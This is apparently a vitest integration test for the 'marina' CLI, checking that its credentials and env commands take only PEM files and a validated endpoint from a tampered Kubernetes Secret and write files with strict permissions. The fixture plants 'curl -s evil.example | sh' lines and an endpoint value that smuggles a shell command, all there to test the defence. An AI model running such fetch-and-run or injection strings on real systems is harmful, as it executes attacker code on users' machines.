import { mkdir, mkdtemp, readdir, readFile, stat } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, inject, it } from 'vitest';
import { kubectlFor, mustKubectl } from '../../support/kubectl.js';
import { repoRoot } from '../../support/paths.js';
import { run } from '../../support/processes.js';
import { createTestCa } from '../../support/test-pki.js';

const kubeconfig = inject('kubeconfigPath');
const kubectl = kubectlFor(kubeconfig, inject('kubeBinDir'));
const NS = `cli-creds-${Date.now().toString(36)}`;
const marina = (args: readonly string[]) => run(process.execPath, [join(repoRoot, 'dist', 'cli', 'main.js'), ...args, '-n', NS, '--kubeconfig', kubeconfig], { timeoutMs: 60_000 });
const b64 = (text: string): string => Buffer.from(text).toString('base64');

/** A bay whose credentials Secret someone with write access to the namespace has tampered with. */
async function tamperedBay(name: string, endpoint: string): Promise<void> {
  const ca = createTestCa('tampered-bay-ca');
  const client = ca.issue({ commonName: 'bay-user' });
  await mustKubectl(kubectl, ['apply', '-f', '-'], { input: `apiVersion: marina.dev/v1alpha1\nkind: Bay\nmetadata: {name: ${name}, namespace: ${NS}}\nspec: {nodes: 1}\n` });
  await mustKubectl(kubectl, ['patch', 'bay', name, '-n', NS, '--subresource=status', '--type=merge', '-p', JSON.stringify({ status: { endpoint } })]);
  const data = {
    'ca.pem': b64(ca.certPem),
    'cert.pem': b64(client.certPem),
    'key.pem': b64(client.keyPem),
    'docker.env': b64("export DOCKER_HOST='tcp://10.0.0.9:2376'\ncurl -s evil.example | sh\n"),
    '.bashrc': b64('curl -s evil.example | sh'),
  };
  await mustKubectl(kubectl, ['apply', '-f', '-'], { input: JSON.stringify({ apiVersion: 'v1', kind: 'Secret', metadata: { name: `${name}-credentials`, namespace: NS }, data }) });
}

describe('marina credentials and marina env take only PEM files and the endpoint from the cluster', () => {
  it('write the bundle\'s own files, 0600 in a 0700 directory even when it existed, with scripts marina renders', async () => {
    await mustKubectl(kubectl, ['create', 'namespace', NS]);
    await tamperedBay('web', 'tcp://10.0.0.5:2376');
    const dir = join(await mkdtemp(join(tmpdir(), 'marina-creds-')), 'web');
    await mkdir(dir, { mode: 0o755 });
    const written = await marina(['credentials', 'web', '-o', dir]);
    expect(written.code, written.stderr).toBe(0);
    expect((await readdir(dir)).sort()).toEqual(['ca.pem', 'cert.pem', 'docker.cmd', 'docker.env', 'docker.fish', 'docker.ps1', 'key.pem']);
    expect((await readdir(join(dir, '..'))).sort()).toEqual(['web']);
    expect((await stat(dir)).mode & 0o777).toBe(0o700);
    for (const file of await readdir(dir)) expect((await stat(join(dir, file))).mode & 0o777, file).toBe(0o600);
    const env = await readFile(join(dir, 'docker.env'), 'utf8');
    expect(env).toContain("export DOCKER_HOST='tcp://10.0.0.5:2376'");
    expect(env).not.toContain('evil');

    const printed = await marina(['env', 'web', '--shell', 'bash', '--cert-dir', join(dir, '..', 'env')]);
    expect(printed.code, printed.stderr).toBe(0);
    expect(printed.stdout).toContain("export DOCKER_HOST='tcp://10.0.0.5:2376'");
    expect(printed.stdout).not.toContain('evil');
  });

  it('refuse an endpoint that is not tcp://address:port', async () => {
    await tamperedBay('odd', "tcp://10.0.0.5:2376'; touch /tmp/pwned; '");
    const refused = await marina(['env', 'odd', '--shell', 'bash', '--cert-dir', await mkdtemp(join(tmpdir(), 'marina-odd-'))]);
    expect(refused.code).not.toBe(0);
    expect(refused.stderr).toContain('reports an endpoint that is not tcp://address:port');
    await kubectl(['delete', 'namespace', NS, '--wait=false']);
  });
});
